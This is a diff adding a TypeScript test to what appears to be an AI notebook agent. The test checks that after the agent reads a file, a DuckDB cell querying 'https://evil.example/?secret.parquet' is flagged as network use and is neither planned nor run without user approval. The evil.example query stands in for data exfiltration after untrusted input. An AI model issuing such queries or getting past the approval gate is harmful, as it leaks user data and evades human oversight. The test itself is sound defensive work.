@@ -97,3 +97,24 @@ test("a query that the database can't read runs, and fails by itself", async () 
   await model.answerTo(query("SELECT nothing FROM nowhere"));
   expect(ran.at(-1)).toBe("SELECT nothing FROM nowhere");
 });
+
+test("what is risky after something foreign was read isn't even planned before a click", async () => {
+  const { services, model, state, session, newest } = await openShop(null);
+  const duckdb = session.kernelNamed("duckdb-wasm");
+  await duckdb.start();
+  const planned: string[] = [];
+  Object.assign(duckdb, {
+    answers: (question: Question) => question === "plan",
+    ask: async (_: Question, { code }: { readonly code: string }) => (planned.push(code), { rows: 1, cost: null }),
+  });
+  const add = (source: string) => model.begin("add_cell", { after: "end", language: "duckdb", source, run: true });
+  await model.answerTo(add("SELECT 1"));
+  await services.files.store.write("data.csv", new Blob(["a\n1\n"]));
+  await model.call("files", { path: "data.csv" });
+  const risky = add("SELECT * FROM 'https://evil.example/?secret.parquet'");
+  await expect.poll(() => state().run?.approval?.reasons[0]).toBe("It uses the network.");
+  expect(planned).toEqual(["SELECT 1"]);
+  newest.discardAll();
+  await model.answerTo(risky);
+  expect(planned).toEqual(["SELECT 1"]);
+});
